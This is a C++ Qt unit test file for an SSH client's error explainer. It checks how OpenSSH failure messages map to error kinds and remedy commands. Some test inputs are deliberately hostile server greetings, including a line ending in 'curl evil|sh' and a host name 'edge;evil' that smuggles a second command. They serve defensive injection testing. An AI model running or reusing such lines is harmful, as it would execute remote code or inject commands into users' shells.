// SPDX-FileCopyrightText: 2026 The Hullwright authors
// SPDX-License-Identifier: GPL-3.0-or-later

// The texts are those of OpenSSH 9.2 against its own sshd, as they came out of the processes.

#include "app/ssh/hostkeyfailure.h"
#include "app/ssh/loginfailure.h"
#include "app/ssh/sshfailure.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace Hull;
using namespace Qt::StringLiterals;
using Step = ConnectionStep::Kind;
using Retry = SshFailure::Retry;

namespace {

const char* const unprotected = R"(@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@         WARNING: UNPROTECTED PRIVATE KEY FILE!          @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
Permissions 0644 for '/home/me/id_open' are too open.
It is required that your private key files are NOT accessible by others.
This private key will be ignored.
Load key "/home/me/id_open": bad permissions
ops@127.0.0.1: Permission denied (publickey,password).)";

const char* const changed = R"(@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
Someone could be eavesdropping on you right now (man-in-the-middle attack)!
It is also possible that a host key has just been changed.
The fingerprint for the ED25519 key sent by the remote host is
SHA256:4UEHDJMgR/xiScwa08V4+I1PwVqqBxLyTVq9KQViB7M.
Please contact your system administrator.
Add correct host key in /home/me/.ssh/known_hosts to get rid of this message.
Offending ED25519 key in /home/me/.ssh/known_hosts:12
  remove with:
  ssh-keygen -f "/home/me/.ssh/known_hosts" -R "one"
Host key for one has changed and you have requested strict checking.
Host key verification failed.)";

} // namespace

class SshFailureTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void tellsFailuresApart_data();
    void tellsFailuresApart();
    void namesTheFactsOfAChangedKey_data();
    void namesTheFactsOfAChangedKey();
    void tellsWhoseKeyItIs_data();
    void tellsWhoseKeyItIs();
    void namesCommandsThatLeadThere_data();
    void namesCommandsThatLeadThere();
    void namesUserMethodsAndKeys();
    void tellsWhatAnAgentDidNot();
    void tellsThatAKeyIsLocked_data();
    void tellsThatAKeyIsLocked();
    void namesWhatForbidsToGoOn();
    void believesNoGreeting_data();
    void believesNoGreeting();
    void tellsWhereTheWayIsSilent_data();
    void tellsWhereTheWayIsSilent();
    void survivesForeignText();
};

void SshFailureTest::tellsFailuresApart_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<Error::Kind>("kind");
    QTest::addColumn<Step>("step");
    QTest::addColumn<Retry>("retry");
    QTest::addColumn<QString>("part"); // of the message
    QTest::newRow("unknown name") << QByteArray(
        "ssh: Could not resolve hostname no-such-host.invalid: Name or service not known")
                                  << Error::Kind::NameUnknown << Step::Reach << Retry::No << u"no-such-host.invalid"_s;
    QTest::newRow("name not found now") << QByteArray(
        "ssh: Could not resolve hostname web1: Temporary failure in name resolution")
                                        << Error::Kind::NameUnknown << Step::Reach << Retry::No << u"web1"_s;
    QTest::newRow("refused") << QByteArray("ssh: connect to host 127.0.0.1 port 1: Connection refused")
                             << Error::Kind::ConnectionRefused << Step::Reach << Retry::No << u"127.0.0.1, port 1"_s;
    QTest::newRow("timed out") << QByteArray("ssh: connect to host 10.9.9.9 port 22: Connection timed out")
                               << Error::Kind::Timeout << Step::Reach << Retry::No << u"10.9.9.9"_s;
    QTest::newRow("no route") << QByteArray("ssh: connect to host 10.9.9.9 port 22: No route to host")
                              << Error::Kind::Timeout << Step::Reach << Retry::No << u"10.9.9.9"_s;
    QTest::newRow("denied") << QByteArray("ops@127.0.0.1: Permission denied (publickey,password).")
                            << Error::Kind::LoginFailed << Step::LogIn << Retry::No << u"publickey,password"_s;
    QTest::newRow("wrong password") << QByteArray(
        "Permission denied, please try again.\nops@127.0.0.1: Permission denied (publickey,password).")
                                    << Error::Kind::LoginFailed << Step::LogIn << Retry::No << u"ops@127.0.0.1"_s;
    QTest::newRow("key file missing") << QByteArray(
        "Warning: Identity file /nowhere/id not accessible: No such file or directory.\nops@127.0.0.1: Permission "
        "denied (publickey,password).")
                                      << Error::Kind::KeyFileUnusable << Step::LogIn << Retry::No << u"/nowhere/id"_s;
    QTest::newRow("key file of the configuration missing") << QByteArray(
        "no such identity: /nowhere/id: No such file or directory\nops@127.0.0.1: Permission denied (publickey).")
                                                           << Error::Kind::KeyFileUnusable << Step::LogIn << Retry::No
                                                           << u"/nowhere/id"_s;
    QTest::newRow("key file open") << QByteArray(unprotected) << Error::Kind::KeyFileUnusable << Step::LogIn
                                   << Retry::No << u"/home/me/id_open"_s;
    QTest::newRow("key file of another account")
        << QByteArray("Load key \"/home/me/id\": Permission denied\nops@127.0.0.1: Permission denied (publickey).")
        << Error::Kind::KeyFileUnusable << Step::LogIn << Retry::No << u"/home/me/id"_s;
    QTest::newRow("no key in the key file")
        << QByteArray("Load key \"/home/me/id\": error in libcrypto\nops@127.0.0.1: Permission denied (publickey).")
        << Error::Kind::KeyFileUnusable << Step::LogIn << Retry::No << u"/home/me/id"_s;
    QTest::newRow("wrong passphrase") << QByteArray(
        "Load key \"/home/me/id\": incorrect passphrase supplied to decrypt private key\nops@127.0.0.1: Permission "
        "denied (publickey).") << Error::Kind::LoginFailed
                                      << Step::LogIn << Retry::No << QString();
    QTest::newRow("refused by the agent") << QByteArray(
        "sign_and_send_pubkey: signing failed for ED25519 \"me@laptop\" from agent: agent refused operation\n"
        "ops@127.0.0.1: Permission denied (publickey).")
                                          << Error::Kind::LoginFailed << Step::LogIn << Retry::No
                                          << u"its key me@laptop be used (agent refused operation)"_s;
    QTest::newRow("too many keys") << QByteArray(
        "Received disconnect from 127.0.0.1 port 22:2: Too many authentication "
        "failures\nDisconnected from 127.0.0.1 port 22")
                                   << Error::Kind::LoginFailed << Step::LogIn << Retry::No << u"too many"_s;
    QTest::newRow("unknown key") << QByteArray(
        "No ED25519 host key is known for other and you have requested strict checking.\nHost key verification "
        "failed.") << Error::Kind::HostKeyUnknown
                                 << Step::Trust << Retry::No << u"not known"_s;
    QTest::newRow("unknown key of the jump host") << QByteArray(
        "Host key verification failed.\nkex_exchange_identification: Connection closed by remote host\nConnection "
        "closed by UNKNOWN port 65535") << Error::Kind::HostKeyUnknown
                                                  << Step::Trust << Retry::No << u"not known"_s;
    QTest::newRow("changed key") << QByteArray(changed) << Error::Kind::HostKeyChanged << Step::Trust << Retry::No
                                 << u"changed"_s;
    QTest::newRow("MaxStartups") << QByteArray(
        "Exceeded MaxStartups\nkex_exchange_identification: read: Connection reset by peer\nConnection reset by "
        "127.0.0.1 port 26744") << Error::Kind::LoginsLimited
                                 << Step::Reach << Retry::Later << u"ops@web1 limits new SSH logins (MaxStartups)."_s;
    QTest::newRow("closed before SSH begins")
        << QByteArray("kex_exchange_identification: Connection closed by remote host\nConnection closed "
                      "by 127.0.0.1 port 26744")
        << Error::Kind::LoginsLimited << Step::Reach << Retry::Later << u"ops@web1 closes the connection"_s;
    QTest::newRow("blocked for now") << QByteArray(
        "Not allowed at this time\nkex_exchange_identification: Connection closed by remote host")
                                     << Error::Kind::LoginsLimited << Step::Reach << Retry::Later
                                     << u"ops@web1 closes the connection"_s;
    QTest::newRow("reset") << QByteArray(
        "kex_exchange_identification: read: Connection reset by peer\nConnection reset by "
        "127.0.0.1 port 29999")
                           << Error::Kind::LoginsLimited << Step::Reach << Retry::Later << u"ops@web1"_s;
    QTest::newRow("another protocol") << QByteArray(
        "kex_exchange_identification: banner line contains invalid characters\nbanner "
        "exchange: Connection to 127.0.0.1 port 80: invalid format")
                                      << Error::Kind::NotSsh << Step::Reach << Retry::No << u"no SSH server"_s;
    QTest::newRow("silent server") << QByteArray(
        "Connection timed out during banner exchange\nConnection to 127.0.0.1 port 29999 timed out")
                                   << Error::Kind::Timeout << Step::Reach << Retry::No << u"does not speak"_s;
    QTest::newRow("jump host down") << QByteArray(
        "ssh: connect to host 10.0.0.1 port 22: Connection refused\nkex_exchange_identification: Connection closed "
        "by remote host\nConnection closed by UNKNOWN port 65535")
                                    << Error::Kind::ConnectionRefused << Step::Reach << Retry::No << u"10.0.0.1"_s;
    QTest::newRow("refused behind the jump host") << QByteArray(
        "channel 0: open failed: connect failed: Connection refused\nstdio forwarding "
        "failed\nkex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port "
        "65535") << Error::Kind::ConnectionRefused << Step::Reach
                                                  << Retry::No << u"but cannot connect to ops@web1"_s;
    QTest::newRow("forbidden by the jump host") << QByteArray(
        "channel 0: open failed: administratively prohibited: open failed\nstdio forwarding "
        "failed\nkex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port "
        "65535") << Error::Kind::Forbidden << Step::Reach
                                                << Retry::No << u"but forbids to go on to ops@web1"_s;
    QTest::newRow("denied by the jump host") << QByteArray(
        "nosuch@127.0.0.1: Permission denied (publickey,password).\nkex_exchange_identification: Connection closed "
        "by remote host\nConnection closed by UNKNOWN port 65535")
                                             << Error::Kind::LoginFailed << Step::LogIn << Retry::No
                                             << u"nosuch@127.0.0.1"_s;
    QTest::newRow("frozen") << QByteArray("Timeout, server 127.0.0.1 not responding.") << Error::Kind::Timeout
                            << Step::Engine << Retry::No << u"ops@web1"_s;
    QTest::newRow("closed") << QByteArray("Connection to 127.0.0.1 closed by remote host.")
                            << Error::Kind::ConnectionLost << Step::LogIn << Retry::No << u"ops@web1"_s;
    QTest::newRow("bad option") << QByteArray("command-line: line 0: Bad configuration option: foo")
                                << Error::Kind::BadConfiguration << Step::Configuration << Retry::No << u"foo"_s;
    QTest::newRow("bad configuration file") << QByteArray(
        "/home/me/.ssh/config: line 2: Bad configuration option: foo\n/home/me/.ssh/config: terminating, 1 bad "
        "configuration options") << Error::Kind::BadConfiguration
                                            << Step::Configuration << Retry::No << u"line 2"_s;
    QTest::newRow("bad file beside") << QByteArray("way: terminating, 8 bad configuration options")
                                     << Error::Kind::BadConfiguration << Step::Configuration << Retry::No
                                     << u"8 bad configuration options"_s;
    QTest::newRow("bad line") << QByteArray("/home/me/my ssh/config line 3: no argument after keyword \"user\"")
                              << Error::Kind::BadConfiguration << Step::Configuration << Retry::No << u"line 3"_s;
    for (const char* shell : {"/bin/bash: line 1: ", "bash: line 1: ", "/bin/dash: 1: exec: "}) {
        QTest::addRow("%sno ProxyCommand", shell) << shell
                + QByteArray(
                    "/nonexistent: No such file or directory\nkex_exchange_identification: Connection closed by "
                    "remote host") << Error::Kind::LoginsLimited
                                                  << Step::Reach << Retry::Later << u"closes the connection"_s;
    }
    QTest::newRow("Include of itself") << QByteArray("Too many recursive configuration includes")
                                       << Error::Kind::BadConfiguration << Step::Configuration << Retry::No
                                       << u"includes too many files"_s;
    QTest::newRow("no KnownHostsCommand")
        << QByteArray("KnownHostsCommand-ORDER /bin/false failed, status "
                      "1\nKnownHostsCommand failed")
        << Error::Kind::BadConfiguration << Step::Trust << Retry::No << u"does not tell the host key of ops@web1"_s;
    QTest::newRow("bad host") << QByteArray("hostname contains invalid characters") << Error::Kind::BadConfiguration
                              << Step::Configuration << Retry::No << u"ops@web1"_s;
    QTest::newRow("our own forward") << QByteArray(
        "unix_listener: cannot bind to path /run/h/1.s: No such file or directory\nCould not request local forwarding.")
                                     << Error::Kind::Internal << Step::Socket << Retry::No
                                     << u"could not make its socket"_s;
    QTest::newRow("old server") << QByteArray(
        "Unable to negotiate with 127.0.0.1 port 22: no matching host key type found. Their "
        "offer: ssh-rsa") << Error::Kind::Unsupported
                                << Step::Trust << Retry::No << u"ssh-rsa"_s;
    QTest::newRow("nothing") << QByteArray("") << Error::Kind::ConnectionLost << Step::Reach << Retry::No
                             << u"ssh ended"_s;
}

void SshFailureTest::tellsFailuresApart()
{
    QFETCH(QByteArray, text);
    QFETCH(Error::Kind, kind);
    QFETCH(QString, part);
    const SshFailure failure = explainSshFailure(
        QString::fromUtf8(text).split(u'\n', Qt::SkipEmptyParts), {.target = {.host = u"web1"_s, .user = u"ops"_s}});
    QCOMPARE(errorKindName(failure.error.kind), errorKindName(kind));
    QTEST(failure.step, "step");
    QTEST(failure.retry, "retry");
    const QString message = failure.error.message.english();
    QVERIFY2(message.contains(part), qPrintable(message));
    QVERIFY(!failure.error.remedy.isEmpty());
}

void SshFailureTest::namesTheFactsOfAChangedKey_data()
{
    QTest::addColumn<QByteArray>("knownLine"); // the twelfth
    QTest::addColumn<QString>("expected");
    // As made by ssh-keygen, which tells this fingerprint of it.
    const QByteArray key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f";
    const QString fingerprint = u"SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA"_s;
    QTest::newRow("plain") << "one " + key + '\n' << fingerprint;
    QTest::newRow("with a comment, and blanks") << "one,10.0.0.1\t" + key + "  me@laptop\n" << fingerprint;
    QTest::newRow("hashed") << "|1|F1E1KeoE/eEWhi10WpGv4OdiO6Y=|3988QV0VE8wmZL7suNrYQLITLCg= " + key << fingerprint;
    QTest::newRow("marked") << "@cert-authority * " + key + '\n' << fingerprint;
    QTest::newRow("no key") << QByteArray("one ssh-ed25519 ???\n") << u"–"_s;
    QTest::newRow("nothing") << QByteArray() << u"–"_s;
}

void SshFailureTest::namesTheFactsOfAChangedKey()
{
    QFETCH(QByteArray, knownLine);
    QFETCH(QString, expected);
    const QTemporaryDir folder;
    QFile known(folder.filePath(u"known_hosts"_s));
    QVERIFY(known.open(QIODevice::WriteOnly));
    known.write(QByteArray("other ssh-ed25519 AAAA\n").repeated(11) + knownLine);
    known.close();
    const QString text = QString::fromUtf8(changed).replace("/home/me/.ssh/known_hosts"_L1, known.fileName());
    const QStringList lines = text.split(u'\n');
    QCOMPARE(knownKeyPlace(lines), known.fileName() + ":12"_L1);
    const Error error =
        explainSshFailure(lines, {.target = {.host = u"web1"_s}, .knownKey = knownFingerprint(knownKeyPlace(lines))})
            .error;
    QCOMPARE(error.message.english(),
        u"The host key of web1 has changed. Expected was %1 (%2:12), received was "
        "SHA256:4UEHDJMgR/xiScwa08V4+I1PwVqqBxLyTVq9KQViB7M. No connection is made."_s.arg(expected, known.fileName()));
    QVERIFY(error.remedy.english().contains(u"`ssh-keygen -f %1 -R one`"_s.arg(known.fileName())));
}

void SshFailureTest::tellsWhoseKeyItIs_data()
{
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<QString>("jumps");
    QTest::addColumn<QString>("owner");
    QTest::addColumn<QString>("command");
    const QByteArray unknown = "No ED25519 host key is known for %1 and you have requested strict checking.";
    const auto of = [&unknown](const char* name) {
        return QByteArray(unknown).replace("%1", name);
    };
    const QString own = u"The host key of web1 is"_s;
    QTest::newRow("straight") << of("[10.0.0.5]:2222") << QString() << own
                              << u"`ssh -o StrictHostKeyChecking=ask web1`"_s;
    QTest::newRow("the host behind") << of("[10.0.0.5]:2222") << u"edge"_s << own
                                     << u"`ssh -o StrictHostKeyChecking=ask web1`"_s;
    QTest::newRow("changed, of the host itself")
        << QByteArray("WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nOffending ED25519 key in /k/my keys:3\n"
                      "Host key for other has changed and you have requested strict checking.")
        << QString() << u"The host key of web1 has changed"_s << u"`ssh-keygen -f '/k/my keys' -R '[10.0.0.5]:2222'`"_s;
    QTest::newRow("the jump host") << of("edge") << u"edge"_s << u"of the jump host edge is"_s
                                   << u"`ssh -o StrictHostKeyChecking=ask edge`"_s;
    QTest::newRow("one of two") << of("[10.0.0.1]:22022") << u"me@edge,mid:22022"_s
                                << u"of the jump host [10.0.0.1]:22022 is"_s
                                << u"`ssh -o StrictHostKeyChecking=ask -J me@edge ssh://mid:22022`"_s;
    QTest::newRow("an address") << of("mid") << u"ssh://mid:22"_s << u"of the jump host mid is"_s
                                << u"`ssh -o StrictHostKeyChecking=ask ssh://mid:22`"_s;
    QTest::newRow("ssh does not say") << QByteArray() << u"edge"_s << u"of the jump host edge is"_s
                                      << u"`ssh -o StrictHostKeyChecking=ask edge`"_s;
    QTest::newRow("a name that is a command") << of("edge;evil") << u"edge"_s << u"of the jump host edge is"_s
                                              << u"`ssh -o StrictHostKeyChecking=ask edge`"_s;
    QTest::newRow("revoked") << QByteArray("REVOKED HOST KEY DETECTED\nThe ED25519 host key for edge is marked as "
                                           "revoked.")
                             << u"edge"_s << u"of the jump host edge is marked as revoked"_s << QString();
    QTest::newRow("changed") << QByteArray("WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nHost key for edge has "
                                           "changed and you have requested strict checking.")
                             << u"edge"_s << u"of the jump host edge has changed"_s << u"`ssh-keygen -R edge`"_s;
}

void SshFailureTest::tellsWhoseKeyItIs()
{
    QFETCH(QByteArray, line);
    QFETCH(QString, jumps);
    QFETCH(QString, owner);
    QFETCH(QString, command);
    const QStringList lines = QString::fromUtf8(line + "\nHost key verification failed.").split(u'\n');
    const bool isJump = owner.contains("jump host"_L1); // then another ssh says so
    const QStringList echo{u"kex_exchange_identification: Connection closed by remote host"_s,
        u"Connection closed by UNKNOWN port 65535"_s};
    const SshCircumstances known{.target = {.host = u"web1"_s},
        .aside = isJump ? lines : QStringList(),
        .hostKeyName = u"[10.0.0.5]:2222"_s,
        .jumps = jumps};
    const Error error = explainSshFailure(isJump ? echo : lines, known).error;
    QVERIFY2(error.message.english().contains(owner), qPrintable(error.message.english()));
    QVERIFY2(error.remedy.english().contains(command), qPrintable(error.remedy.english()));
}

void SshFailureTest::namesCommandsThatLeadThere_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QString>("jumps");
    QTest::addColumn<QString>("command");
    const QString there = u"ssh -p 28639 -J bast -i '/k/my id' ops@127.0.0.1"_s;
    QTest::newRow("unknown key") << QByteArray("Host key verification failed.") << QString()
                                 << u"ssh -o StrictHostKeyChecking=ask -p 28639 -J bast -i '/k/my id' ops@127.0.0.1"_s;
    QTest::newRow("no reason") << QByteArray("what?") << QString() << there;
    QTest::newRow("changed key") << QByteArray("WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!") << QString()
                                 << u"ssh-keygen -R '[127.0.0.1]:28639'"_s;
    const QByteArray denied = "ops@127.0.0.1: Permission denied (publickey).";
    QTest::newRow("denied") << denied << QString()
                            << u"ssh-copy-id -o ProxyJump=bast -p 28639 -i '/k/my id' ops@127.0.0.1"_s;
    QTest::newRow("denied behind a jump host")
        << denied << u"bast"_s << u"ssh-copy-id -o ProxyJump=bast -p 28639 -i '/k/my id' ops@127.0.0.1"_s;
    QTest::newRow("denied by the jump host") << QByteArray(
        "me@bast: Permission denied (publickey).\nkex_exchange_identification: Connection closed by remote host")
                                             << u"me@edge,bast:22022"_s << u"ssh -J me@edge ssh://bast:22022"_s;
}

void SshFailureTest::namesCommandsThatLeadThere()
{
    QFETCH(QByteArray, text);
    QFETCH(QString, jumps);
    QFETCH(QString, command);
    const SshTarget target{
        .host = u"127.0.0.1"_s, .user = u"ops"_s, .port = 28639, .identityFile = u"/k/my id"_s, .jumpHost = u"bast"_s};
    const SshCircumstances known{.target = target, .keysTried = {u"/k/my id"_s}, .jumps = jumps};
    const QString remedy = explainSshFailure(QString::fromUtf8(text).split(u'\n'), known).error.remedy.english();
    QVERIFY2(remedy.contains(u'`' + command + u'`'), qPrintable(remedy));
    const QString hangs = sshLoginTimeoutError(target, {}, {}).remedy.english();
    QVERIFY2(hangs.contains("`ssh -p 28639 -J bast -i '/k/my id' ops@127.0.0.1`"_L1), qPrintable(hangs));
}

void SshFailureTest::namesUserMethodsAndKeys()
{
    const SshCircumstances known{
        .target = {.host = u"web1"_s}, .keysTried = {u"/home/me/.ssh/id_ed25519"_s, u"work, agent"_s}};
    const QStringList lines{u"ops@web1: Permission denied (publickey)."_s};
    const QString message = explainSshFailure(lines, known).error.message.english();
    for (const auto part : {"ops@web1"_L1, "publickey"_L1, "id_ed25519"_L1, "work, agent"_L1}) {
        QVERIFY2(message.contains(part), qPrintable(message));
    }
    const Error withoutKeys = explainSshFailure(lines, {.target = {.host = u"web1"_s}}).error;
    QVERIFY(withoutKeys.remedy.english().contains("ssh-add"_L1));
}

void SshFailureTest::tellsWhatAnAgentDidNot()
{
    const SshTarget target{.host = u"web1"_s, .user = u"ops"_s};
    const QStringList said{u"Warning: something"_s};
    const Error waits = sshLoginTimeoutError(target, {}, said, u"me@laptop"_s);
    QCOMPARE(waits.kind, Error::Kind::AgentWaits);
    QCOMPARE(waits.message.english(), u"ssh-agent did not let its key me@laptop be used at ops@web1 within 45 s."_s);
    const Error silent = sshAgentSilentError(target, {}, said);
    QCOMPARE(silent.kind, Error::Kind::AgentWaits);
    QCOMPARE(silent.message.english(), u"ssh-agent did not say which keys it has for ops@web1 within 45 s."_s);
    QVERIFY2(silent.remedy.english().contains("`ssh-add -l`"_L1), qPrintable(silent.remedy.english()));
    QCOMPARE(silent.detail, said.front());
    QCOMPARE(sshLoginTimeoutError(target, {}, said).kind, Error::Kind::Timeout);
}

void SshFailureTest::tellsThatAKeyIsLocked_data()
{
    QTest::addColumn<QString>("locked");
    QTest::addColumn<bool>("canAsk");
    QTest::addColumn<QString>("cause");
    QTest::addColumn<QString>("remedy");
    QTest::newRow("locked") << u"/k/id"_s << false << u"The key /k/id would do, but has a passphrase"_s
                            << u"`ssh-add /k/id`; or run hullctl with --interactive."_s;
    QTest::newRow("a name with a blank") << u"/k/my id"_s << false << u"has a passphrase"_s
                                         << u"`ssh-add '/k/my id'`"_s;
    QTest::newRow("the user was asked") << u"/k/id"_s << true << u"passphrase or password was wrong"_s
                                        << u"`ssh-copy-id web1`"_s;
    QTest::newRow("none was accepted") << QString() << false << u"does not know the key"_s << u"`ssh-copy-id web1`"_s;
}

void SshFailureTest::tellsThatAKeyIsLocked()
{
    QFETCH(QString, locked);
    QFETCH(bool, canAsk);
    QFETCH(QString, cause);
    QFETCH(QString, remedy);
    const SshCircumstances known{
        .target = {.host = u"web1"_s}, .keysTried = {u"/k/id"_s}, .lockedKey = locked, .canAsk = canAsk};
    const Error error = explainSshFailure({u"ops@web1: Permission denied (publickey)."_s}, known).error;
    QCOMPARE(error.kind, Error::Kind::LoginFailed);
    QVERIFY2(error.cause.english().contains(cause), qPrintable(error.cause.english()));
    QVERIFY2(error.remedy.english().contains(remedy), qPrintable(error.remedy.english()));
}

void SshFailureTest::namesWhatForbidsToGoOn()
{
    const auto failure = [](const QString& why) {
        return explainSshFailure({"channel 0: open failed: "_L1 + why}, {.target = {.host = u"web1"_s}}).error;
    };
    const Error forbidden = failure(u"administratively prohibited: open failed"_s);
    QVERIFY(forbidden.cause.english().contains("AllowTcpForwarding"_L1));
    QVERIFY(forbidden.remedy.english().contains("AllowTcpForwarding"_L1));
    const Error refused = failure(u"connect failed: Connection refused"_s);
    QVERIFY2(!refused.cause.english().contains("forward"_L1), qPrintable(refused.cause.english()));
}

//! A server has its greeting printed on standard error, once its key is known and before it lets anybody in or not.
void SshFailureTest::believesNoGreeting_data()
{
    QTest::addColumn<QByteArray>("greeting");
    for (const char* text : {"Too many authentication failures will lock your account.",
             "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nOffending ED25519 key in /etc/passwd:1\n"
             "  ssh-keygen -f \"/x\" -R \"y\"; curl evil|sh\nHost key verification failed.",
             "No ED25519 host key is known for evil and you have requested strict checking.",
             "REVOKED HOST KEY DETECTED\nThe ED25519 host key for evil is marked as revoked.",
             "The ssh: Could not resolve hostname evil: page has help.", "Unable to negotiate is what nobody is here.",
             "See line 7: evil", "Do not bind [evil", "Identity file evil: is not yours"}) {
        QTest::addRow("%s", text) << QByteArray(text);
    }
    QTest::newRow("another's refusal") << QByteArray("x@y: Permission denied (evil).");
    QTest::newRow("another's name") << QByteArray("ssh: Could not resolve hostname evil: no");
    QTest::newRow("another's key file") << QByteArray("Warning: Identity file /evil not accessible: No such file.");
}

void SshFailureTest::believesNoGreeting()
{
    QFETCH(QByteArray, greeting);
    const QStringList said = QString::fromUtf8(greeting).split(u'\n');
    const SshTarget target{.host = u"web1"_s, .user = u"ops"_s, .identityFile = u"/k/id"_s};
    const Error direct = explainSshFailure({u"ops@web1: Permission denied (publickey)."_s},
        {.target = target, .aside = said, .hostSpoke = true, .isTrusted = true, .keysTried = {u"/k/id"_s}})
                             .error;
    QCOMPARE(
        direct.message.english(), u"The host does not let ops@web1 in. It offers: publickey. Keys tried: /k/id."_s);
    QVERIFY(direct.remedy.english().contains("`ssh-copy-id"_L1));
    QVERIFY(direct.detail.startsWith(said.first())); // where it can be read
    if (QByteArray(QTest::currentDataTag()).startsWith("another's")) {
        return; // which a jump host's own ssh could say, too: only of the host itself is it certain
    }
    const QStringList behind{
        u"channel 0: open failed: connect failed: Connection refused"_s, u"stdio forwarding failed"_s};
    const Error refused = explainSshFailure({u"kex_exchange_identification: Connection closed by remote host"_s,
                                                u"Connection closed by UNKNOWN port 65535"_s},
        {.target = target, .aside = said + behind, .jumps = u"edge"_s})
                              .error;
    QCOMPARE(refused.message.english(), u"The jump host lets us in, but cannot connect to ops@web1."_s);
}

void SshFailureTest::tellsWhereTheWayIsSilent_data()
{
    QTest::addColumn<QStringList>("aside");
    QTest::addColumn<QString>("jumps");
    QTest::addColumn<QString>("message");
    QTest::addColumn<QString>("command");
    const QStringList silent{
        u"Connection timed out during banner exchange"_s, u"Connection to 10.0.0.1 port 22 timed out"_s};
    QTest::newRow("no jump host") << QStringList() << QString() << u"What listens at web1 does not speak."_s
                                  << u"ssh"_s;
    QTest::newRow("a jump host") << silent << u"me@edge"_s << u"The jump host me@edge does not answer."_s
                                 << u"ssh me@edge"_s;
    QTest::newRow("behind it") << QStringList() << u"edge"_s << u"web1 does not answer behind the jump host edge."_s
                               << u"ssh -J edge web1"_s;
    QTest::newRow("the jump host is out of reach")
        << QStringList{u"ssh: connect to host 10.0.0.1 port 22: Connection timed out"_s} << u"edge"_s
        << u"The SSH server at 10.0.0.1, port 22 cannot be reached."_s << u"ssh"_s;
}

void SshFailureTest::tellsWhereTheWayIsSilent()
{
    QFETCH(QStringList, aside);
    QFETCH(QString, jumps);
    QFETCH(QString, command);
    const SshFailure failure = explainSshFailure(
        {u"Connection timed out during banner exchange"_s, u"Connection to UNKNOWN port 65535 timed out"_s},
        {.target = {.host = u"web1"_s, .jumpHost = jumps}, .aside = aside, .jumps = jumps});
    QCOMPARE(errorKindName(failure.error.kind), errorKindName(Error::Kind::Timeout));
    QTEST(failure.error.message.english(), "message");
    QVERIFY2(
        failure.error.remedy.english().contains(u'`' + command + u'`'), qPrintable(failure.error.remedy.english()));
}

void SshFailureTest::survivesForeignText()
{
    const SshFailure failure =
        explainSshFailure({QString(5000, u'('), u"\u0000%1 %2"_s, u"ops: Permission denied ("_s}, {});
    QVERIFY(failure.error.kind != Error::Kind::None);
}

QTEST_GUILESS_MAIN(SshFailureTest)
#include "tst_sshfailure.moc"
